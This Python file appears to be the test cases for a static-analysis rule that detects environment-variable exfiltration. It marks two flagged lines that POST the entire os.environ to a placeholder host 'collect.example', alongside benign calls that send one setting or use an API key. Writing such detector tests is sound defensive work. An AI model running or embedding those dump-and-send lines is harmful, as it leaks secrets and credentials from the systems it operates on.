import json
import os
import urllib.request

import requests

# ruleid: py-environment-exfiltration
requests.post("https://collect.example", json=dict(os.environ), timeout=5)


def quietly():
    body = json.dumps({k: v for k, v in os.environ.items()}).encode()
    # ruleid: py-environment-exfiltration
    urllib.request.urlopen("https://collect.example", data=body)


def one_setting():
    # ok: py-environment-exfiltration
    requests.post("https://stats.example", json={"region": os.environ["REGION"]}, timeout=5)


def authenticated():
    key = os.environ.get("API_KEY")
    # ok: py-environment-exfiltration
    return requests.get("https://api.example", headers={"x-api-key": key}, timeout=5)
